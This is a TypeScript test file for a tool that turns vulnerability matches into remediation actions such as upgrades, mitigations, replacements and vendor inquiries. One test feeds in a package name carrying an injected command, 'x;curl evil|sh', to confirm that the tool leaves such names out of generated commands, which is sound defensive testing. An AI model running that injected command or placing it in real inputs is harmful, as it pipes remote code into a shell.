// Which action comes of which matches.
import { describe, expect, test } from 'vitest';
import type { Remediation } from '#core/advisories/advisory.ts';
import type { Action } from '#core/plans/action.ts';
import { makePlan } from '#core/plans/make-plan.ts';
import type { Plan } from '#core/plans/plan.ts';
import type { PlanInput } from '#core/plans/plan-input.ts';
import { assetOf, componentOf, exploitedFlaw, flawOf, inputOf, type Row } from '#tests/fixtures/matches.ts';

const web = assetOf('web-1');
const remediation = (kind: Remediation['kind'], text: string, subjects: readonly string[] = []): Remediation => ({
  flaws: [],
  kind,
  text,
  url: undefined,
  on: '2026-05-01',
  subjects,
});

function planned(rows: readonly Row[], parts: Partial<PlanInput> = {}): Plan {
  return makePlan(inputOf(rows, { capacityHours: 100, ...parts }));
}

function all(plan: Plan): readonly Action[] {
  return [...plan.actions, ...plan.later];
}

const texts = (said: Action['how'] | undefined): string => (said ?? []).map(({ text }) => text).join('\n');

describe('upgrade', () => {
  const lodash = componentOf('npm/lodash', '4.17.15');

  test('stays in the major version where one there leaves nothing', () => {
    const rows = [{ asset: web, component: lodash, flaw: flawOf('CVE-1'), fixedIn: ['4.17.21', '5.0.0'] }];
    expect(all(planned(rows))[0]?.to).toBe('4.17.21');
  });

  test('takes the smallest step beyond it where none does, and says what that may break', () => {
    const rows = [
      { asset: web, component: lodash, flaw: flawOf('CVE-1'), fixedIn: ['4.17.19'] },
      { asset: web, component: lodash, flaw: flawOf('CVE-2'), fixedIn: ['5.0.1', '6.0.0'] },
    ];
    const [action] = all(planned(rows));
    expect(action?.to).toBe('5.0.1');
    expect(texts(action?.how)).toContain('another major version');
    expect(texts(action?.ifYouCannot)).toContain('lodash 4.17.19, of the same major version, closes 1 vulnerability');
  });

  test('passes over a version that another record calls affected', () => {
    const rows = [{ asset: web, component: lodash, flaw: flawOf('CVE-1'), fixedIn: ['4.17.19', '4.17.21'] }];
    const affectedAt = (_: unknown, version: string): ReadonlySet<number> => new Set(version === '4.17.19' ? [7] : []);
    expect(all(planned(rows, { affectedAt }))[0]?.to).toBe('4.17.21');
  });

  test('prefers a release to a preview of it', () => {
    const rows = [{ asset: web, component: lodash, flaw: flawOf('CVE-1'), fixedIn: ['4.17.21-rc.1', '4.17.21'] }];
    expect(all(planned(rows))[0]?.to).toBe('4.17.21');
  });

  test('is one for each major version', () => {
    const old = componentOf('npm/lodash', '3.10.1');
    const flaw = flawOf('CVE-1');
    const rows = [
      { asset: web, component: old, flaw, fixedIn: ['3.10.2', '4.17.21'] },
      { asset: web, component: lodash, flaw, fixedIn: ['4.17.21'] },
    ];
    const affectedAt = (): ReadonlySet<number> => new Set();
    expect(
      all(planned(rows, { affectedAt }))
        .map(({ from, to }) => `${from.join()} ${to}`)
        .toSorted((a, b) => (a < b ? -1 : 1)),
    ).toEqual(['3.10.1 3.10.2', '4.17.15 4.17.21']);
  });

  test('is one for like assets and another for others', () => {
    const like = assetOf('web-2');
    const inner = assetOf('inner', { exposure: { value: 'internal', source: undefined, on: undefined } });
    const rows = [web, like, inner].map((asset) => ({
      asset,
      component: lodash,
      flaw: flawOf('CVE-1'),
      fixedIn: ['4.17.21'],
    }));
    expect(all(planned(rows)).map(({ assets }) => assets.map(({ name }) => name))).toEqual([
      ['web-1', 'web-2'],
      ['inner'],
    ]);
  });

  test('names the direct dependency to raise', () => {
    const deep = componentOf('npm/minimist', '1.2.5', { depth: 'transitive', through: ['mkdirp 0.5.1'] });
    const [action] = all(planned([{ asset: web, component: deep, flaw: flawOf('CVE-1'), fixedIn: ['1.2.6'] }]));
    expect(texts(action?.how)).toContain('brought in by mkdirp 0.5.1: raise that to a release that brings 1.2.6');
    expect(action?.how[0]?.source).toBe('app.cdx.json, 2026-11-20');
    expect(texts(action?.how)).toContain('"overrides": { "minimist": "1.2.6" }');
  });

  test('a hostile name comes into no command', () => {
    const hostile = componentOf('npm/x;curl evil|sh', '1.0.0');
    const [action] = all(planned([{ asset: web, component: hostile, flaw: flawOf('CVE-1'), fixedIn: ['1.0.1'] }]));
    expect(texts(action?.how)).not.toContain('npm install');
    expect(texts(action?.how)).toContain('by hand');
    expect(texts(action?.verify)).not.toContain('npm ls');
  });

  test('packages of one system are raised in one sitting', () => {
    const deb = (name: string, version: string): Row['component'] =>
      componentOf(`deb/debian/${name}`, version, { qualifiers: { distro: 'debian-12' } });
    const rows = [
      { asset: web, component: deb('openssl', '3.0.9-1'), flaw: flawOf('CVE-1'), fixedIn: ['3.0.11-1~deb12u2'] },
      { asset: web, component: deb('curl', '7.88.1-10'), flaw: flawOf('CVE-2'), fixedIn: ['7.88.1-10+deb12u4'] },
    ];
    const [action, ...others] = all(planned(rows));
    expect(others).toEqual([]);
    expect(action?.title).toBe('Upgrade 2 system packages (openssl, curl) on web-1');
    expect(action?.parts).toEqual([
      { component: 'deb/debian/openssl', from: ['3.0.9-1'], to: '3.0.11-1~deb12u2' },
      { component: 'deb/debian/curl', from: ['7.88.1-10'], to: '7.88.1-10+deb12u4' },
    ]);
    expect(texts(action?.how)).toContain('apt-get install --only-upgrade openssl curl');
  });

  test('is one, where records name a version for a part and words tell of the rest', () => {
    const component = componentOf('FortiOS', '7.4.1', { vendor: 'Fortinet' });
    const rows = [
      { asset: web, component, flaw: flawOf('CVE-1'), fixedIn: ['7.4.4'] },
      { asset: web, component, flaw: flawOf('CVE-2'), remediations: [remediation('fix', 'Upgrade to 7.4.3.')] },
    ];
    const raised = all(planned(rows)).filter(({ kind }) => kind === 'upgrade');
    expect(raised.map(({ to, closes }) => [to, closes.map(({ vulnerability }) => vulnerability)])).toEqual([
      ['7.4.4', ['CVE-1', 'CVE-2']],
    ]);
  });

  test('takes the vendor’s word where no version is named', () => {
    const component = componentOf('FortiOS', '6.0.4', { vendor: 'Fortinet' });
    const rows = [
      { asset: web, component, flaw: flawOf('CVE-1'), remediations: [remediation('fix', 'Upgrade to 6.0.5.')] },
    ];
    const action = all(planned(rows)).find(({ kind }) => kind === 'upgrade');
    expect(action?.title).toBe('Upgrade Fortinet FortiOS 6.0.4 as its vendor says on web-1');
    expect(action?.how).toEqual([{ text: 'Upgrade to 6.0.5.', source: 'Publisher ADV-CVE-1, 2026-05-01' }]);
  });
});

describe('what no version closes', () => {
  const component = componentOf('PLC 5', '1.0', { vendor: 'Maker' });
  const row = (remediations: readonly Remediation[]): Row => ({
    asset: web,
    component,
    flaw: flawOf('CVE-1'),
    remediations,
  });

  test('is mitigated by the publisher’s words', () => {
    const [action] = all(planned([row([remediation('mitigation', 'Disable the web server.')])])).filter(
      ({ kind }) => kind === 'mitigate',
    );
    expect(texts(action?.how)).toBe('Disable the web server.');
    expect(action?.how[0]?.source).toBe('Publisher ADV-CVE-1, 2026-05-01');
  });

  test('a mitigation for another product is not told', () => {
    const plan = planned([row([remediation('mitigation', 'For the other one.', ['product:maker/other'])])]);
    expect(all(plan).map(({ kind }) => kind)).not.toContain('mitigate');
    const own = planned([row([remediation('mitigation', 'For this one.', ['product:maker/plc5'])])]);
    expect(all(own).map(({ kind }) => kind)).toContain('mitigate');
  });

  test('is replaced where no fix is planned', () => {
    const plan = planned([row([remediation('no fix planned', 'The product is discontinued.')])]);
    const replace = all(plan).find(({ kind }) => kind === 'replace');
    expect(texts(replace?.why)).toContain('No fix is planned: The product is discontinued.');
  });

  test('is mitigated, not replaced, where no fix is planned and its publisher says what to do instead', () => {
    const said = [
      remediation('no fix planned', 'No fix is planned.'),
      remediation('mitigation', 'Disable the server.'),
    ];
    const actions = all(planned([row(said)]));
    expect(actions.map(({ kind }) => kind)).not.toContain('replace');
    const mitigate = actions.find(({ kind }) => kind === 'mitigate');
    expect(mitigate?.how.map(({ text }) => text)).toEqual(['No fix is planned.', 'Disable the server.']);
  });

  test('is replaced where support has ended', () => {
    const angular = componentOf('npm/angular', '1.8.3');
    const plan = planned([{ asset: web, component: angular, flaw: flawOf('CVE-1') }]);
    const replace = all(plan).find(({ kind }) => kind === 'replace');
    expect(texts(replace?.why)).toContain('Support for AngularJS 1 ended on 2021-12-31');
  });

  test('is asked about where nothing is published, and nothing is made up', () => {
    const action = all(planned([row([])])).find(({ kind }) => kind === 'confirm');
    expect(action?.title).toBe('Ask the makers of Maker PLC 5 about 1 vulnerability without a fix in this feed');
    expect(texts(action?.how)).toBe('No published guidance in this feed; ask the vendor.');
    // That it is affected is known.
    expect(texts(action?.verify)).not.toContain('can not tell');
  });

  test('is asked about once for all assets, however unlike they are', () => {
    const file = assetOf('file-1', { kind: 'server' });
    const asks = all(planned([row([]), { ...row([]), asset: file }])).filter(({ kind }) => kind === 'confirm');
    expect(asks.map(({ assets }) => assets.map(({ name }) => name))).toEqual([['file-1', 'web-1']]);
  });

  test('makes a public asset harder to reach, never one that is isolated', () => {
    const kinds = (asset: Row['asset']): readonly string[] =>
      all(planned([{ ...row([]), asset }])).map(({ kind }) => kind);
    expect(kinds(web)).toContain('isolate');
    expect(kinds(assetOf('cell', { exposure: { value: 'isolated', source: undefined, on: undefined } }))).not.toContain(
      'isolate',
    );
  });
});

describe('what nobody can tell', () => {
  const unknown = (flaw: Row['flaw']): Row => ({
    asset: web,
    component: componentOf('FortiOS', undefined, { vendor: 'Fortinet' }),
    flaw,
    verdict: 'unknown',
  });

  test('is looked at where it is exploited', () => {
    const [action] = all(planned([unknown(exploitedFlaw('CVE-1')), unknown(exploitedFlaw('CVE-2'))]));
    expect(action?.title).toBe('Find out which version of Fortinet FortiOS runs on web-1');
    expect(action?.closes).toHaveLength(2);
  });

  test('is only counted where little hangs on it', () => {
    const plan = planned([unknown(flawOf('CVE-1'))]);
    expect(all(plan)).toEqual([]);
    expect(plan.cannotSee).toContainEqual({
      text: 'match where nobody can tell whether the component is affected',
      count: 1,
    });
  });
});
